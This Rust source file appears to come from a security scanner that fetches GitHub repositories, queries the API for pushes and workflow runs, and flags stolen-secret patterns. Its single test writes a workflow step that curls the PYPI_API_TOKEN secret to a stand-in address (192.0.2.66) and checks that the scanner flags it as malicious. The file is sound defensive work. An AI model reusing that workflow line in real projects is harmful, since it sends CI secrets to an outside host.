//! The code forge, for the desk: fetches a repository with a child `git` that can do nothing else, scans it, and asks the
//! forge's API who pushed what and which workflows ran.
//!
//! Only the forge that the operator configured is asked. What is fetched is hostile: it lies in a folder that vanishes, no
//! hook, filter, submodule or configuration of it is ever looked at, and nothing of it is run.

mod clone;
mod heads;
pub(crate) mod told;

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::Duration;

use async_trait::async_trait;
use portcullis_index::desk::forge::{Forge, ForgeError, Look, Push, Run, Runs, Sight};
use portcullis_index::desk::subject::RepositoryName;
use portcullis_index::outgoing::{self, OutgoingError, Source};
use portcullis_index::settings::Settings;
use secrecy::SecretString;
use serde::de::DeserializeOwned;
use url::Url;

use clone::Clone;
use heads::Heads;
use told::{About, Activity, Happened, RunPage, run};

/// The name of the forge that is known so far.
const HOST: &str = "github.com";

/// How long one look may take altogether.
const LOOK_LIMIT: Duration = Duration::from_secs(300);

/// Most bytes of one answer of the forge's API.
const ANSWER_LIMIT: usize = 8 << 20;

/// How many pages of runs are asked for, 100 runs each.
const RUN_PAGE_LIMIT: usize = 5;

/// GitHub, or what the operator put in its place.
pub(crate) struct Remote {
    api: Url,
    git: Url,
    token: Option<SecretString>,
}

impl Remote {
    /// With the operator's settings.
    ///
    /// # Errors
    /// Where the file with the API's token can't be read.
    pub(crate) fn new(settings: &Settings) -> anyhow::Result<Self> {
        use anyhow::Context;
        let token = settings.github_token_file.as_deref().map(|path| {
            std::fs::read_to_string(path)
                .map(|text| SecretString::from(text.trim().to_owned()))
                .with_context(|| format!("reading the token of the forge's API from {}", path.display()))
        });
        Ok(Self {
            api: settings.github_api.clone(),
            git: settings.github_git.clone(),
            token: token.transpose()?,
        })
    }
}

#[async_trait]
impl Forge for Remote {
    async fn look(&self, look: &Look) -> Result<Sight, ForgeError> {
        let name = &look.repository;
        if name.host() != HOST {
            return Err(ForgeError::Impossible(format!(
                "{name} can't be fetched: of all forges only {HOST} is configured"
            )));
        }
        tokio::time::timeout(LOOK_LIMIT, self.look_within(look)).await.unwrap_or_else(|_| {
            Err(ForgeError::Failed(format!("looking at {name} took longer than {} s", LOOK_LIMIT.as_secs())))
        })
    }
}

impl Remote {
    async fn look_within(&self, look: &Look) -> Result<Sight, ForgeError> {
        let name = &look.repository;
        let mut problems = Vec::new();
        let about: Option<About> = self.known(name, "", &mut problems).await;
        let mut pushes = self.pushes(name, &mut problems).await;
        let mut runs = self.runs(name, &mut problems).await;

        let folder = tempfile::tempdir()
            .map_err(|error| ForgeError::Failed(format!("no temporary folder to fetch into: {error}")))?;
        let mut clone = Clone::new(folder.path(), self.clone_url(name)?);
        problems.extend(
            clone
                .fetch_all()
                .await
                .map_err(|error| ForgeError::Failed(format!("fetching {name}: {error}")))?,
        );
        if let Some(branch) = about.and_then(|about| about.default_branch) {
            // Which branch's schedule and issue workflows run. Without it the scanner takes what HEAD says.
            let _ = clone.git(&["symbolic-ref", "HEAD", &format!("refs/heads/{branch}")], b"").await;
        }
        let heads = Heads::new(look, pushes.as_deref(), runs.as_ref());
        problems.extend(clone.fetch_commits(&heads.all()).await?);
        for push in pushes.iter_mut().flatten() {
            push.commits = clone.commits_of(push).await?;
        }
        if let Some(runs) = &mut runs {
            clone.name_blobs(runs).await?;
        }
        let document = scan(folder.path().to_owned(), name.to_string(), heads).await?;
        Ok(Sight { document, pushes, runs, problems })
    }

    fn clone_url(&self, name: &RepositoryName) -> Result<Url, ForgeError> {
        let base = self.git.as_str().trim_end_matches('/');
        format!("{base}/{}/{}.git", name.owner(), name.name())
            .parse()
            .map_err(|error| ForgeError::Impossible(format!("{name} has no clone URL: {error}")))
    }

    /// What the API knows below a repository's address. What it does not tell is a gap, never a failure of the look.
    async fn known<T: DeserializeOwned>(
        &self,
        name: &RepositoryName,
        rest: &str,
        problems: &mut Vec<String>,
    ) -> Option<T> {
        let base = self.api.as_str().trim_end_matches('/');
        let url = format!("{base}/repos/{}/{}{rest}", name.owner(), name.name()).parse().ok()?;
        let source = Source::Operator { root: None };
        match outgoing::get_as(&url, source, ANSWER_LIMIT, self.token.as_ref()).await {
            Ok(body) => match serde_json::from_slice(&body) {
                Ok(answer) => Some(answer),
                Err(error) => {
                    problems.push(format!("the forge's answer about {name} can't be read: {error}"));
                    None
                }
            },
            Err(OutgoingError::Status { status: 404, .. }) => None,
            Err(error) => {
                problems.push(format!("asking the forge about {name}: {error}"));
                None
            }
        }
    }

    async fn pushes(&self, name: &RepositoryName, problems: &mut Vec<String>) -> Option<Vec<Push>> {
        let activity: Option<Vec<Activity>> = self.known(name, "/activity?per_page=100", problems).await;
        let activity = match activity {
            Some(activity) => activity,
            // Older Enterprise Servers have no list of activity; the events of the last 90 days tell of pushes too.
            None => {
                let happened: Vec<Happened> = self.known(name, "/events?per_page=100", problems).await?;
                happened.into_iter().filter_map(Happened::push).collect()
            }
        };
        if activity.len() >= told::PUSHES_MAX {
            problems.push(String::from("older pushes than the newest 100 are not known"));
        }
        let push = |activity: Activity| {
            let (before, after, at) = activity.own()?;
            Some(Push { name: activity.name, before, after, at: at.0, commits: Vec::new() })
        };
        Some(activity.into_iter().filter_map(push).collect())
    }

    async fn runs(&self, name: &RepositoryName, problems: &mut Vec<String>) -> Option<Runs> {
        let mut found: BTreeMap<i64, Run> = BTreeMap::new();
        let mut total = 0;
        for page in 1..=RUN_PAGE_LIMIT {
            let rest = format!("/actions/runs?per_page=100&page={page}");
            let answer: RunPage = match self.known(name, &rest, problems).await {
                Some(answer) => answer,
                None if page == 1 => return None,
                None => break,
            };
            total = answer.total_count;
            let before = found.len();
            found.extend(answer.workflow_runs.into_iter().filter_map(run).map(|run| (run.id, run)));
            if found.len() >= total || found.len() == before {
                break;
            }
        }
        let list: Vec<Run> = found.into_values().collect();
        let complete_since =
            (list.len() < total).then(|| list.iter().map(|run| run.from).min().unwrap_or(i64::MAX));
        Some(Runs { complete_since, list })
    }
}

async fn scan(folder: PathBuf, identity: String, heads: Heads) -> Result<String, ForgeError> {
    let options = portcullis_scan::Options {
        paths: vec![folder],
        identity: Some(identity),
        pushed_heads: heads.pushed.into_iter().collect(),
        push_times: heads.times,
        heads: heads.cited.into_iter().collect(),
        jobs: 1,
        ..portcullis_scan::Options::default()
    };
    let scanned = tokio::task::spawn_blocking(move || {
        let mut report = portcullis_scan::scan(&options);
        // The desk acts on theft, not on advice.
        report
            .document
            .findings
            .retain(|finding| finding.verdict >= portcullis_scan::report::Verdict::Suspicious);
        (report.paths_read > 0).then(|| serde_json::to_string(&report.document))
    });
    match scanned.await {
        Ok(Some(Ok(document))) => Ok(document),
        Ok(Some(Err(error))) => {
            Err(ForgeError::Failed(format!("what the scan found can't be written: {error}")))
        }
        Ok(None) => Err(ForgeError::Failed(String::from("nothing of what was fetched could be read"))),
        Err(_) => Err(ForgeError::Failed(String::from("the scan met a fault of its own"))),
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;
    use std::path::Path;

    use super::*;

    #[tokio::test]
    async fn files_that_were_left_out_do_not_keep_a_repository_from_being_scanned() {
        let folders = tempfile::tempdir().unwrap();
        let (source, fetched) = (folders.path().join("source"), folders.path().join("fetched"));
        let git = |folder: &Path, arguments: &[&str]| {
            let mut command = std::process::Command::new("git");
            command.env_clear().env("PATH", std::env::var_os("PATH").unwrap()).current_dir(folder);
            command.env("HOME", folder).env("GIT_CONFIG_NOSYSTEM", "1").env("GIT_NO_LAZY_FETCH", "1");
            command.args([
                "-c",
                "user.name=a",
                "-c",
                "user.email=a@example.test",
                "-c",
                "protocol.file.allow=always",
            ]);
            let done = command.args(arguments).output().unwrap();
            assert!(done.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
        };
        std::fs::create_dir_all(source.join(".github/workflows")).unwrap();
        std::fs::create_dir(&fetched).unwrap();
        let workflow = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d \
                        token=${{ secrets.PYPI_API_TOKEN }} http://192.0.2.66/\n";
        std::fs::write(source.join(".github/workflows/x.yml"), workflow).unwrap();
        std::fs::write(source.join("large"), vec![7; (4 << 20) + 1]).unwrap();
        git(&source, &["init", "--quiet", "--initial-branch=main"]);
        git(&source, &["config", "uploadpack.allowFilter", "true"]);
        git(&source, &["add", "."]);
        git(&source, &["commit", "--quiet", "--message=x"]);
        git(&fetched, &["init", "--quiet", "--bare", "--template=", "--initial-branch=main"]);
        let filter = format!("--filter={}", clone::FILE_LIMITS[0]);
        let url = format!("file://{}", source.display());
        git(&fetched, &["fetch", "--quiet", &filter, &url, "+refs/heads/*:refs/heads/*"]);
        let heads = Heads { pushed: BTreeSet::new(), times: BTreeMap::new(), cited: BTreeSet::new() };
        let document = scan(fetched, String::from("github.com/example-org/fish"), heads).await.unwrap();
        let document: serde_json::Value = serde_json::from_str(&document).unwrap();
        assert_eq!(document["findings"][0]["verdict"], "malicious", "{document}");
        assert_eq!(document["problems"], serde_json::json!([]));
    }
}
